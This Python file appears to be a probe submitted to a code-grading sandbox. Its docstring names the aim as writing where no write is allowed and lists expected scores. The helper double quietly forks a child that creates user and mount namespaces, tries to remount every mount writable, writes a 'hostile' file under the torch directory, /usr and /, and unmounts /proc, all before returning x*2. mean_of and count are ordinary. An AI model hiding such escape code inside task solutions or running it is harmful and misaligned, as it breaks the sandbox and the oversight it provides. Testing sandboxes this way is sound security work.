"""Makes its read-only view writable: by remounting, by unmounting, by mounting over it, with a root of its own making.
Success: a write where none is allowed.

expected: double=30 mean_of=40 count=30
"""

import ctypes
import os

import torch

MS_REMOUNT_BIND = 32 | 4096


def work():
    libc = ctypes.CDLL(None, use_errno=True)
    user = os.geteuid()
    libc.prctl(4, 1, 0, 0, 0)  # or the map of users is not its own to write
    libc.unshare(0x10000000 | 0x00020000)
    try:
        with open("/proc/self/uid_map", "w") as file:
            file.write(f"{user} {user} 1")
    except OSError:
        pass
    place = os.path.dirname(torch.__file__)
    with open("/proc/self/mountinfo") as file:
        mounts = [line.split()[4] for line in file]
    for mount in mounts:
        libc.mount(b"none", mount.encode(), None, MS_REMOUNT_BIND, None)
    for path in (place, "/usr", "/"):
        try:
            with open(f"{path}/hostile", "w"):
                print("SUCCEEDED: wrote below", path, flush=True)
        except OSError:
            pass
    if libc.umount2(b"/proc", 2) == 0 and os.path.exists("/proc/1"):
        print("SUCCEEDED: what lies under /proc", flush=True)


def double(x):
    child = os.fork()
    if child == 0:
        try:
            work()
        finally:
            os._exit(0)
    os.waitpid(child, 0)
    return x * 2


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
